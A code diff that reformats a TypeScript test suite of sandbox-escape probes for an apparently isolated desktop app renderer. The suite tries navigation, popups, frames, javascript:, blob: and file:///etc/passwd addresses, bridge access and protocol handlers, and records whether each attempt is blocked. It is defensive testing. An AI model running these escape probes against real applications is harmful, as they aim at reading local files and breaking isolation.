@@ -8,11 +8,14 @@ const go =
 const form =
   (attributes: (at: Target) => Record<string, string>) =>
   (at: Target): string =>
-    `const f = add('form', ${JSON.stringify(attributes(at))}); add('input', { name: 'x', value: '${at.needle}' }, f); f.submit(); await wait(120)`;
+    `const f = add('form', ${JSON.stringify(attributes(at))}); add('input', { name: 'x', value: '${at.needle}' ` +
+    '}, f); f.submit(); await wait(120)';
 const open =
   (address: (at: Target) => string, more = '') =>
   (at: Target): string =>
-    `const w = window.open(${JSON.stringify(address(at))}${more}); for (let i = 0; w && !w.closed && i < 24; i += 1) await wait(50); if (w && !w.closed) { try { return w.innerWidth > 0 && w.document ? 'out: it is open' : 'tried' } catch { return 'out: it is elsewhere' } } return 'closed'`;
+    `const w = window.open(${JSON.stringify(address(at))}${more}); for (let i = 0; w && !w.closed && i < 24; i ` +
+    `+= 1) await wait(50); if (w && !w.closed) { try { return w.innerWidth > 0 && w.document ? 'out: it is open' ` +
+    `: 'tried' } catch { return 'out: it is elsewhere' } } return 'closed'`;
 const frame =
   (attributes: (at: Target) => Record<string, string>, tag = 'iframe') =>
   (at: Target): string =>
@@ -42,7 +45,8 @@ export const NAVIGATION: EscapeClass = {
       held: 'recorded',
       control: true,
       script: (at) =>
-        `setTimeout(() => { const moved = navigation.navigate('${at.http}'); moved.committed.catch(() => {}); moved.finished.catch(() => {}) }, 0); await wait(120)`,
+        `setTimeout(() => { const moved = navigation.navigate('${at.http}'); moved.committed.catch(() => {}); ` +
+        'moved.finished.catch(() => {}) }, 0); await wait(120)',
     },
     {
       id: 'link',
@@ -57,7 +61,8 @@ export const NAVIGATION: EscapeClass = {
       held: 'recorded',
       control: true,
       script: (at) =>
-        `const a = document.createElement('a'); a.href = '${at.http}'; a.dispatchEvent(new MouseEvent('click')); await wait(120)`,
+        `const a = document.createElement('a'); a.href = '${at.http}'; a.dispatchEvent(new MouseEvent('click')); ` +
+        'await wait(120)',
     },
     {
       id: 'link-shadow',
@@ -65,7 +70,8 @@ export const NAVIGATION: EscapeClass = {
       held: 'recorded',
       control: true,
       script: (at) =>
-        `const h = add('div').attachShadow({ mode: 'closed' }); const a = document.createElement('a'); a.href = '${at.http}'; h.append(a); a.click(); await wait(120)`,
+        `const h = add('div').attachShadow({ mode: 'closed' }); const a = document.createElement('a'); a.href = ` +
+        `'${at.http}'; h.append(a); a.click(); await wait(120)`,
     },
     {
       id: 'link-svg',
@@ -73,7 +79,10 @@ export const NAVIGATION: EscapeClass = {
       held: 'recorded',
       control: true,
       script: (at) =>
-        `const s = leave(document.createElementNS('http://www.w3.org/2000/svg', 'svg')); const a = document.createElementNS('http://www.w3.org/2000/svg', 'a'); a.setAttribute('href', '${at.http}'); s.append(a); document.body.append(s); a.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true })); await wait(120)`,
+        `const s = leave(document.createElementNS('http://www.w3.org/2000/svg', 'svg')); const a = ` +
+        `document.createElementNS('http://www.w3.org/2000/svg', 'a'); a.setAttribute('href', '${at.http}'); ` +
+        `s.append(a); document.body.append(s); a.dispatchEvent(new MouseEvent('click', { bubbles: true, ` +
+        'cancelable: true })); await wait(120)',
     },
     {
       id: 'area',
@@ -81,7 +90,8 @@ export const NAVIGATION: EscapeClass = {
       held: 'recorded',
       control: true,
       script: (at) =>
-        `const m = add('map', { name: 'm' }); const a = document.createElement('area'); a.href = '${at.http}'; m.append(a); a.click(); await wait(120)`,
+        `const m = add('map', { name: 'm' }); const a = document.createElement('area'); a.href = '${at.http}'; ` +
+        'm.append(a); a.click(); await wait(120)',
     },
     {
       id: 'form-get',
@@ -119,7 +129,8 @@ export const NAVIGATION: EscapeClass = {
       held: 'recorded',
       control: true,
       script: (at) =>
-        `add('base', { href: '${at.http.slice(0, at.http.lastIndexOf('/') + 1)}' }, document.head); new Image().src = '${at.needle}.png'; await wait(60)`,
+        `add('base', { href: '${at.http.slice(0, at.http.lastIndexOf('/') + 1)}' }, document.head); new ` +
+        `Image().src = '${at.needle}.png'; await wait(60)`,
     },
     {
       id: 'javascript-address',
@@ -131,7 +142,9 @@ export const NAVIGATION: EscapeClass = {
         ['navigation-blocked', 'javascript:'],
       ],
       script: () =>
-        `delete window.ranByAddress; add('a', { href: 'javascript:void(window.ranByAddress = 1)' }).click(); setTimeout(() => { location.href = 'javascript:void(window.ranByAddress = 1)' }); await wait(120); return window.ranByAddress ? 'out: it ran' : 'it did not run'`,
+        `delete window.ranByAddress; add('a', { href: 'javascript:void(window.ranByAddress = 1)' }).click(); ` +
+        `setTimeout(() => { location.href = 'javascript:void(window.ranByAddress = 1)' }); await wait(120); ` +
+        `return window.ranByAddress ? 'out: it ran' : 'it did not run'`,
     },
     {
       id: 'data-address',
@@ -149,7 +162,8 @@ export const NAVIGATION: EscapeClass = {
         ['navigation-blocked', 'desk.cleandesk.internal'],
       ],
       script: (at) =>
-        `setTimeout(() => { location.href = URL.createObjectURL(new Blob(['<img src=${at.http}><meta http-equiv=refresh content="0; url=${at.http}">'], { type: 'text/html' })) }, 0); await wait(120)`,
+        `setTimeout(() => { location.href = URL.createObjectURL(new Blob(['<img src=${at.http}><meta ` +
+        `http-equiv=refresh content="0; url=${at.http}">'], { type: 'text/html' })) }, 0); await wait(120)`,
     },
     {
       id: 'blank-address',
@@ -164,7 +178,9 @@ export const NAVIGATION: EscapeClass = {
       held: 'recorded',
       records: [['request-blocked', 'connect-src: file']],
       script: (at) =>
-        `setTimeout(() => { location.href = 'file:///etc/passwd' }, 0); add('iframe', { src: 'file:///etc/passwd' }); await fetch('file:///etc/hosts').catch(() => 0); await wait(120); return location.protocol === 'file:' ? 'out: it is there' : 'still here ${at.needle.length}'`,
+        `setTimeout(() => { location.href = 'file:///etc/passwd' }, 0); add('iframe', { src: ` +
+        `'file:///etc/passwd' }); await fetch('file:///etc/hosts').catch(() => 0); await wait(120); return ` +
+        `location.protocol === 'file:' ? 'out: it is there' : 'still here ${at.needle.length}'`,
     },
     {
       id: 'chrome-address',
@@ -172,7 +188,8 @@ export const NAVIGATION: EscapeClass = {
       held: 'silent',
       why: 'the browser refuses it in the renderer, before anything could tell',
       script: () =>
-        `setTimeout(() => { location.href = 'chrome://settings/' }, 0); await wait(120); return location.protocol === 'chrome:' ? 'out: it is there' : 'still here'`,
+        `setTimeout(() => { location.href = 'chrome://settings/' }, 0); await wait(120); return ` +
+        `location.protocol === 'chrome:' ? 'out: it is there' : 'still here'`,
     },
     {
       id: 'view-source',
@@ -180,7 +197,8 @@ export const NAVIGATION: EscapeClass = {
       held: 'silent',
       why: 'the browser refuses it in the renderer, before anything could tell',
       script: () =>
-        `setTimeout(() => { location.href = 'view-source:' + location.href }, 0); await wait(120); return location.protocol === 'view-source:' ? 'out: it is there' : 'still here'`,
+        `setTimeout(() => { location.href = 'view-source:' + location.href }, 0); await wait(120); return ` +
+        `location.protocol === 'view-source:' ? 'out: it is there' : 'still here'`,
     },
     {
       id: 'filesystem-address',
@@ -188,7 +206,8 @@ export const NAVIGATION: EscapeClass = {
       held: 'silent',
       why: 'the browser refuses it in the renderer, before anything could tell',
       script: () =>
-        `setTimeout(() => { location.href = 'filesystem:' + location.origin + '/temporary/x' }, 0); await wait(120); return location.protocol === 'filesystem:' ? 'out: it is there' : 'still here'`,
+        `setTimeout(() => { location.href = 'filesystem:' + location.origin + '/temporary/x' }, 0); await ` +
+        `wait(120); return location.protocol === 'filesystem:' ? 'out: it is there' : 'still here'`,
     },
     {
       id: 'devtools-address',
@@ -196,7 +215,8 @@ export const NAVIGATION: EscapeClass = {
       held: 'silent',
       why: 'the browser refuses it in the renderer, before anything could tell',
       script: () =>
-        `setTimeout(() => { location.href = 'devtools://devtools/bundled/inspector.html' }, 0); await wait(120); return location.protocol === 'devtools:' ? 'out: it is there' : 'still here'`,
+        `setTimeout(() => { location.href = 'devtools://devtools/bundled/inspector.html' }, 0); await wait(120); ` +
+        `return location.protocol === 'devtools:' ? 'out: it is there' : 'still here'`,
     },
     {
       id: 'history',
@@ -210,7 +230,8 @@ export const NAVIGATION: EscapeClass = {
       tries: 'going back to what was there before',
       held: 'silent',
       script: () =>
-        `const before = location.href; history.back(); history.go(-5); await wait(150); return location.href === before ? 'still here' : 'out: elsewhere'`,
+        'const before = location.href; history.back(); history.go(-5); await wait(150); return location.href === ' +
+        `before ? 'still here' : 'out: elsewhere'`,
       why: 'the history is emptied at each reset',
     },
     {
@@ -218,7 +239,8 @@ export const NAVIGATION: EscapeClass = {
       tries: 'a wider domain for the document',
       held: 'silent',
       script: () =>
-        `document.domain = 'cleandesk.internal'; return document.domain === 'cleandesk.internal' ? 'out: widened' : 'unchanged'`,
+        `document.domain = 'cleandesk.internal'; return document.domain === 'cleandesk.internal' ? 'out: ` +
+        `widened' : 'unchanged'`,
       why: 'an isolated origin has no wider one',
     },
     {
@@ -272,7 +294,8 @@ export const POPUPS: EscapeClass = {
       control: true,
       records: [['popup-blocked', 'blob:']],
       script: (at) =>
-        `const w = window.open(URL.createObjectURL(new Blob(['<img src=${at.http}>'], { type: 'text/html' }))); await wait(400); return 'tried'`,
+        `const w = window.open(URL.createObjectURL(new Blob(['<img src=${at.http}>'], { type: 'text/html' }))); ` +
+        `await wait(400); return 'tried'`,
     },
     {
       id: 'open-self',
@@ -280,7 +303,9 @@ export const POPUPS: EscapeClass = {
       held: 'recorded',
       records: [['popup-blocked', 'desk.cleandesk.internal']],
       script: () =>
-        `const w = window.open(location.href); for (let i = 0; w && !w.closed && i < 24; i += 1) await wait(50); try { return w && !w.closed && typeof w.cleandesk === 'object' ? 'out: it has a bridge' : 'closed' } catch { return 'closed' }`,
+        'const w = window.open(location.href); for (let i = 0; w && !w.closed && i < 24; i += 1) await wait(50); ' +
+        `try { return w && !w.closed && typeof w.cleandesk === 'object' ? 'out: it has a bridge' : 'closed' } ` +
+        `catch { return 'closed' }`,
     },
     {
       id: 'open-name',
@@ -302,7 +327,8 @@ export const POPUPS: EscapeClass = {
       held: 'recorded',
       control: true,
       script: (at) =>
-        `const a = document.createElement('a'); a.href = '${at.http}'; a.target = '_blank'; a.dispatchEvent(new MouseEvent('click')); await wait(150)`,
+        `const a = document.createElement('a'); a.href = '${at.http}'; a.target = '_blank'; a.dispatchEvent(new ` +
+        `MouseEvent('click')); await wait(150)`,
     },
     {
       id: 'link-modifier',
@@ -310,7 +336,8 @@ export const POPUPS: EscapeClass = {
       held: 'recorded',
       control: true,
       script: (at) =>
-        `const a = add('a', { href: '${at.http}' }); a.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true, ctrlKey: true })); await wait(150)`,
+        `const a = add('a', { href: '${at.http}' }); a.dispatchEvent(new MouseEvent('click', { bubbles: true, ` +
+        'cancelable: true, ctrlKey: true })); await wait(150)',
     },
     {
       id: 'form-window',
@@ -324,7 +351,8 @@ export const POPUPS: EscapeClass = {
       tries: 'a window that floats above all others',
       held: 'absent',
       script: () =>
-        `if (!isThere(window, 'documentPictureInPicture')) return 'absent'; await documentPictureInPicture.requestWindow(); return 'out: it floats'`,
+        `if (!isThere(window, 'documentPictureInPicture')) return 'absent'; await ` +
+        `documentPictureInPicture.requestWindow(); return 'out: it floats'`,
     },
     {
       id: 'video-in-picture',
@@ -332,7 +360,9 @@ export const POPUPS: EscapeClass = {
       held: 'recorded',
       records: [['permission-denied', 'picture-in-picture']],
       script: () =>
-        `const c = document.createElement('canvas'); c.getContext('2d').fillRect(0, 0, 9, 9); const v = add('video', { muted: '' }); v.srcObject = c.captureStream(5); await v.play(); await v.requestPictureInPicture(); return 'out: it floats'`,
+        `const c = document.createElement('canvas'); c.getContext('2d').fillRect(0, 0, 9, 9); const v = ` +
+        `add('video', { muted: '' }); v.srcObject = c.captureStream(5); await v.play(); await ` +
+        `v.requestPictureInPicture(); return 'out: it floats'`,
     },
     {
       id: 'presentation',
@@ -340,7 +370,8 @@ export const POPUPS: EscapeClass = {
       held: 'silent',
       why: 'no other screen is looked for: the part that would is switched off',
       script: (at) =>
-        `if (!isThere(window, 'PresentationRequest')) return 'absent'; await new PresentationRequest(['${at.https}']).start(); return 'out: begun'`,
+        `if (!isThere(window, 'PresentationRequest')) return 'absent'; await new ` +
+        `PresentationRequest(['${at.https}']).start(); return 'out: begun'`,
     },
     {
       id: 'remote-playback',
@@ -348,7 +379,8 @@ export const POPUPS: EscapeClass = {
       held: 'silent',
       why: 'no other device is looked for: the part that would is switched off',
       script: () =>
-        `if (!isThere(HTMLMediaElement.prototype, 'remote')) return 'absent'; await add('video').remote.prompt(); return 'out: begun'`,
+        `if (!isThere(HTMLMediaElement.prototype, 'remote')) return 'absent'; await ` +
+        `add('video').remote.prompt(); return 'out: begun'`,
     },
   ],
 };
@@ -401,7 +433,8 @@ export const FRAMES: EscapeClass = {
         ['navigation-blocked', 'frame-src: blob:'],
       ],
       script: (at) =>
-        `add('iframe', { src: URL.createObjectURL(new Blob(['<img src=${at.http}>'], { type: 'text/html' })) }); await wait(120)`,
+        `add('iframe', { src: URL.createObjectURL(new Blob(['<img src=${at.http}>'], { type: 'text/html' })) }); ` +
+        'await wait(120)',
     },
     {
       id: 'frame-javascript',
@@ -410,7 +443,8 @@ export const FRAMES: EscapeClass = {
       control: true,
       records: [['request-blocked', 'script-src-elem: inline']],
       script: () =>
-        `delete window.ranInFrame; add('iframe', { src: 'javascript:void(parent.ranInFrame = 1)' }); await wait(120); return window.ranInFrame ? 'out: it ran' : 'it did not run'`,
+        `delete window.ranInFrame; add('iframe', { src: 'javascript:void(parent.ranInFrame = 1)' }); await ` +
+        `wait(120); return window.ranInFrame ? 'out: it ran' : 'it did not run'`,
     },
     {
       id: 'frame-empty',
@@ -429,7 +463,8 @@ export const FRAMES: EscapeClass = {
       held: 'recorded',
       records: [['bridge-refused', 'listConversations']],
       script: () =>
-        `const f = add('iframe'); await wait(80); const inner = f.contentWindow?.cleandesk; if (!inner) return 'no bridge there'; return await inner.listConversations({}).then(() => 'out: answered', () => 'refused')`,
+        `const f = add('iframe'); await wait(80); const inner = f.contentWindow?.cleandesk; if (!inner) return ` +
+        `'no bridge there'; return await inner.listConversations({}).then(() => 'out: answered', () => 'refused')`,
     },
     {
       id: 'frame-print',
@@ -444,7 +479,8 @@ export const FRAMES: EscapeClass = {
       held: 'silent',
       why: 'it loads only what an auction has chosen, and there is none',
       script: (at) =>
-        `if (!isThere(window, 'HTMLFencedFrameElement')) return 'absent'; const f = add('fencedframe'); f.config = new FencedFrameConfig('${at.https}'); await wait(120); return 'tried'`,
+        `if (!isThere(window, 'HTMLFencedFrameElement')) return 'absent'; const f = add('fencedframe'); f.config ` +
+        `= new FencedFrameConfig('${at.https}'); await wait(120); return 'tried'`,
     },
     {
       id: 'portal',
@@ -458,7 +494,8 @@ export const FRAMES: EscapeClass = {
       tries: 'a frameset',
       held: 'recorded',
       script: (at) =>
-        `const s = document.createElement('frameset'); const f = document.createElement('frame'); f.src = '${at.http}'; s.append(f); document.documentElement.append(leave(s)); await wait(120)`,
+        `const s = document.createElement('frameset'); const f = document.createElement('frame'); f.src = ` +
+        `'${at.http}'; s.append(f); document.documentElement.append(leave(s)); await wait(120)`,
     },
     {
       id: 'object-page',
@@ -501,7 +538,8 @@ export const PROGRAMS: EscapeClass = {
       control: true,
       records: byMove,
       script: (at) =>
-        `const a = document.createElement('a'); a.href = '${MAIL(at)}'; a.dispatchEvent(new MouseEvent('click')); await wait(120)`,
+        `const a = document.createElement('a'); a.href = '${MAIL(at)}'; a.dispatchEvent(new ` +
+        `MouseEvent('click')); await wait(120)`,
     },
     {
       id: 'mail-window',
@@ -570,7 +608,8 @@ export const PROGRAMS: EscapeClass = {
       held: 'recorded',
       records: [['navigation-blocked', 'escape.example']],
       script: (at) =>
-        `const a = document.createElement('a'); a.href = 'zoommtg://escape.example/join?x=${at.needle}'; a.dispatchEvent(new MouseEvent('click')); await wait(120)`,
+        `const a = document.createElement('a'); a.href = 'zoommtg://escape.example/join?x=${at.needle}'; ` +
+        `a.dispatchEvent(new MouseEvent('click')); await wait(120)`,
     },
     {
       id: 'share-folder',
